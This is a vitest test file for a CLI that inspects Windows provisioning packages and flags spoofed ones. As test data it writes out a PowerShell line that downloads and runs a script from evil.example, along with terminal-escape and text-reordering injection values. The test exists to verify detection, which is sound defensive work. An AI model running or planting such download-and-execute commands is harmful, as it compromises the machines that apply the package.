import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { registerInspectCommand } from '../../cli/commands/inspect';
import { compilePackage, type PackageFile } from '../../shared/compiler/compile';
import type { CustomizationsDocument } from '../../shared/model/customizations-document';
import { setSetting } from '../../shared/model/settings-edit';
import { packageImageProperties } from '../../shared/node/package/image-properties';
import { packageTree } from '../../shared/node/package/package-tree';
import { writeWim } from '../../shared/node/wim/wim-writer';
import { serializeCustomizationsXml } from '../../shared/xml/customizations';
import { runCliInProcess } from '../support/cli-in-process';
import { emptyDocument } from '../support/documents';

/**
 * Issue #10 item "inspect / Open package decompile what Windows applies": a package whose provxml runs
 * something else than its customizations.xml shows must be flagged (exit 1), and so must one without a
 * customizations.xml; an honest package passes.
 */

const ADMIN_PASSWORD = 'Adm1n-Planted-Pw!';
const MSI = new TextEncoder().encode('not really an MSI, but bytes all the same');

function agentProject(): CustomizationsDocument {
  const doc = emptyDocument('{2b0c4d6e-8a55-4d63-9a54-2f0c7e1b6a22}', 'Agent');
  const command = 'ProvisioningCommands/PrimaryContext/Command/CommandConfig';
  setSetting(doc, `${command}/CommandLine`, 'msiexec /i "agent.msi" /quiet', 'Agent');
  setSetting(doc, `${command}/CommandFile`, 'C:\\Prov\\agent.msi', 'Agent');
  setSetting(doc, 'Accounts/Users/User/UserGroup', 'Administrators', 'localadmin');
  setSetting(doc, 'Accounts/Users/User/Password', ADMIN_PASSWORD, 'localadmin');
  setSetting(doc, 'OOBE/Desktop/HideOobe', true);
  return doc;
}

let work: string;
beforeAll(async () => {
  work = await mkdtemp(join(tmpdir(), 'inspect-applied-'));
});
afterAll(async () => {
  await rm(work, { recursive: true, force: true });
});

function compiled(doc: CustomizationsDocument): PackageFile[] {
  return compilePackage(doc, serializeCustomizationsXml(doc), {
    style: 'store',
    targetSkus: 'WindowsCommon,Desktop',
    assets: new Map([['C:\\Prov\\agent.msi', MSI]]),
  });
}

async function writePackage(
  name: string,
  doc: CustomizationsDocument,
  files: PackageFile[],
): Promise<string> {
  const path = join(work, name);
  await writeWim(path, {
    entries: packageTree(files),
    imageProperties: packageImageProperties(doc, {
      targetSkus: 'WindowsCommon,Desktop',
      packageId: doc.packageConfig.id,
    }),
    workerCount: 0,
  });
  return path;
}

const inspect = (...args: string[]) => runCliInProcess([registerInspectCommand], ['inspect', ...args]);

const SPOOFED_COMMAND = 'powershell -nop -c "iwr https://evil.example/x.ps1 | iex"';

function spoofCommandLine(files: PackageFile[]): PackageFile[] {
  let replaced = 0;
  const spoofed = files.map((file) => {
    const text = new TextDecoder().decode(file.bytes);
    if (!file.path.endsWith('.provxml') || !text.includes('msiexec')) return file;
    replaced++;
    const escaped = SPOOFED_COMMAND.replaceAll('"', '&quot;');
    return {
      path: file.path,
      bytes: new TextEncoder().encode(text.replace(/msiexec \/i &quot;agent\.msi&quot; \/quiet/, escaped)),
    };
  });
  expect(replaced).toBe(1);
  return spoofed;
}

describe('inspect decompiles what Windows applies and compares it with customizations.xml', () => {
  it('passes an honest package and lists the applied settings by setting path, secrets masked', async () => {
    const doc = agentProject();
    const path = await writePackage('honest.ppkg', doc, compiled(doc));
    const run = await inspect(path, '--json');
    expect(run.stderr).toBe('');
    expect(run.code).toBe(0);
    const summary = JSON.parse(run.stdout);
    expect(summary.verification.matches).toBe(true);
    expect(summary.verification.differences).toEqual([]);
    const applied = summary.verification.applied as Array<{ settingPath: string | null; value: string }>;
    expect(applied).toContainEqual(
      expect.objectContaining({
        settingPath: 'ProvisioningCommands/PrimaryContext/Command/CommandConfig[0]/CommandLine',
        value: 'msiexec /i "agent.msi" /quiet',
      }),
    );
    expect(applied).toContainEqual(
      expect.objectContaining({ settingPath: 'Accounts/Users/User[localadmin]/Password', value: '********' }),
    );
    expect(run.stdout).not.toContain(ADMIN_PASSWORD);
  });

  it('flags a spoofed package (customizations.xml shows msiexec, the provxml runs powershell) with exit 1', async () => {
    const doc = agentProject();
    const path = await writePackage('spoofed.ppkg', doc, spoofCommandLine(compiled(doc)));
    const text = await inspect(path);
    expect(text.code).toBe(1);
    expect(text.stdout).toContain('WARNING: what this package applies does NOT match its customizations.xml');
    expect(text.stdout).toContain(`applied:  ${SPOOFED_COMMAND}`);
    expect(text.stdout).toContain('declared: msiexec /i "agent.msi" /quiet');
    expect(text.stderr).toMatch(/difference\(s\).*--allow-mismatch/);

    const json = await inspect(path, '--json');
    expect(json.code).toBe(1);
    const differences = JSON.parse(json.stdout).verification.differences;
    expect(differences).toContainEqual(
      expect.objectContaining({
        kind: 'setting-differs',
        settingPath: 'ProvisioningCommands/PrimaryContext/Command/CommandConfig[0]/CommandLine',
        applied: SPOOFED_COMMAND,
        declared: 'msiexec /i "agent.msi" /quiet',
      }),
    );
    expect((await inspect(path, '--allow-mismatch')).code).toBe(0);
  });

  it('flags a package with customizations.xml removed with exit 1, still listing what it applies', async () => {
    const doc = agentProject();
    const files = compiled(doc).filter((file) => file.path !== 'Multivariant/0/customizations.xml');
    const path = await writePackage('no-customizations.ppkg', doc, files);
    const run = await inspect(path);
    expect(run.code).toBe(1);
    expect(run.stdout).toContain('missing-customizations');
    expect(run.stdout).toMatch(/Applied by Windows \(\d+,/);
    expect(run.stdout).toContain(
      'ProvisioningCommands/PrimaryContext/Command/CommandConfig[0]/CommandLine = msiexec',
    );
  });

  it('flags an extra provxml listed in RunTime.xml and a secret changed only in the provxml, never printing it', async () => {
    const doc = agentProject();
    const files = compiled(doc).map((file) => {
      const text = new TextDecoder().decode(file.bytes);
      return file.path.endsWith('.provxml') && text.includes(ADMIN_PASSWORD)
        ? { path: file.path, bytes: new TextEncoder().encode(text.replace(ADMIN_PASSWORD, 'Other-Pw-9')) }
        : file;
    });
    const path = await writePackage('secret-changed.ppkg', doc, files);
    const run = await inspect(path);
    expect(run.code).toBe(1);
    expect(run.stdout).toContain('Accounts/Users/User[localadmin]/Password');
    expect(run.stdout).not.toContain(ADMIN_PASSWORD);
    expect(run.stdout).not.toContain('Other-Pw-9');
  });

  it('shows control characters and terminal escapes in names and values instead of printing them raw', async () => {
    const doc = agentProject();
    // U+009B is the 8-bit CSI and U+202E reorders text; both are legal XML. A WIM file name can hold ESC.
    setSetting(
      doc,
      'ProvisioningCommands/PrimaryContext/Command/CommandConfig/CommandLine',
      'msiexec /i agent.msi\u009b2K\u202Eevil\tx',
      'Agent',
    );
    const files = [
      ...compiled(doc),
      { path: 'Multivariant/0/read\u001b[8mme.txt', bytes: new TextEncoder().encode('hidden') },
    ];
    const path = await writePackage('escapes.ppkg', doc, files);
    const run = await inspect(path);
    // eslint-disable-next-line no-control-regex -- the point: none of these may reach the terminal raw
    expect(run.stdout).not.toMatch(/[\u001b\u009b\u202e\t]/);
    expect(run.stdout).toContain('agent.msi\\x9B2K\\u202Eevil\\x09x');
    expect(run.stdout).toContain('extra-file: Multivariant/0/read\\x1B[8mme.txt');
    expect(run.code).toBe(1);
  });

  it('exits 1 when a file of the package is corrupt (every SHA-1 is verified)', async () => {
    const doc = agentProject();
    const path = await writePackage('corrupt.ppkg', doc, compiled(doc));
    const bytes = await readFile(path);
    // The MSI payload is stored uncompressed-incompressible or compressed: flip a byte inside its stored data.
    const at = bytes.indexOf(Buffer.from('not really an MSI'));
    expect(at).toBeGreaterThan(0);
    bytes[at + 4] = bytes[at + 4]! ^ 0x20;
    const corrupt = join(work, 'corrupt-flipped.ppkg');
    await writeFile(corrupt, bytes);
    const run = await inspect(corrupt);
    expect(run.code).toBe(1);
    expect(run.stderr).toMatch(/SHA-1/i);
  });
});
